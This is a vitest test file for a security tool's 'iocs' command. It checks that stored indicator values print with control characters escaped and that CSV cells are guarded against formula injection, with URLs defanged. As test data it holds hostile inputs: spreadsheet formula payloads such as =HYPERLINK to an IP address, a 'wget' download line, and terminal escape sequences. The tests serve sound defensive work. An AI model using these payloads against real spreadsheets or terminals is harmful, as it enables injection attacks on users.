// Runs `mitsu iocs` through commander against a real store: what each format prints of the
// attacker-chosen values it lists.

import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { Command } from 'commander';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { emptyIocs } from '../../events/event.js';
import { silentLogger } from '../../lib/log.js';
import { makeEvent } from '../../store/fixtures.js';
import { SqliteStore } from '../../store/sqlite/sqlite-store.js';
import { registerIocs } from './iocs.js';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mitsu-iocs-cmd-'));
const db = path.join(dir, 'mitsu.db');

beforeAll(async () => {
  const store = SqliteStore.open(db);
  await store.append([makeEvent(0, { iocs: { ...emptyIocs(),
    files: ['=HYPERLINK("http://198.51.100.7/x","open")', '@SUM(1+1)', '-x', '+y', 'plain.sh'],
    downloads: ['-2+3 wget http://198.51.100.7/x'],
  } }), makeEvent(1_000, { iocs: { ...emptyIocs(),
    hashes: ['a\u001b]0;owned\u0007b\u009b31mc'] } })]);
  await store.close();
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

async function run(...args: string[]): Promise<string> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const program = new Command('mitsu').exitOverride();
  registerIocs(program, () => ({ log: silentLogger(), stdout: out }));
  await program.parseAsync(['iocs', ...args], { from: 'user' });
  return Buffer.concat(chunks).toString('utf8');
}

/** The value cell of each data row, as written (quoted or not). */
function valueCells(csv: string): string[] {
  return csv.split('\r\n').slice(1, -1)
    .map((row) => /^\w+,("(?:[^"]|"")*"|[^,]*),/.exec(row)?.[1] ?? '');
}

describe('mitsu iocs', () => {
  it('prints control characters of a stored value as \\xNN, not to the terminal', async () => {
    const text = await run('--db', db, '--kind', 'hash');
    expect(text).toContain(String.raw`a\x1b]0;owned\x07b\x9b31mc`);
    const controls = [...text].filter((c) => c !== '\n' && /\p{Cc}/u.test(c));
    expect(controls).toEqual([]);
  });
});

describe('mitsu iocs --format csv', () => {
  it('never starts a cell with a formula character, raw or defanged', async () => {
    for (const raw of [[], ['--raw']]) {
      const cells = valueCells(await run('--db', db, '--format', 'csv', '--kind', 'file,download',
        ...raw));
      expect(cells).toHaveLength(6);
      for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      expect(cells).toContain('"\'=HYPERLINK(""http://198.51.100.7/x"",""open"")"');
      expect(cells).toEqual(expect.arrayContaining(["'@SUM(1+1)", "'-x", "'+y", 'plain.sh']));
    }
    const defanged = valueCells(await run('--db', db, '--format', 'csv', '--kind', 'download'));
    expect(defanged).toEqual(["'-2+3 wget hxxp://198[.]51[.]100[.]7/x"]);
  });
});
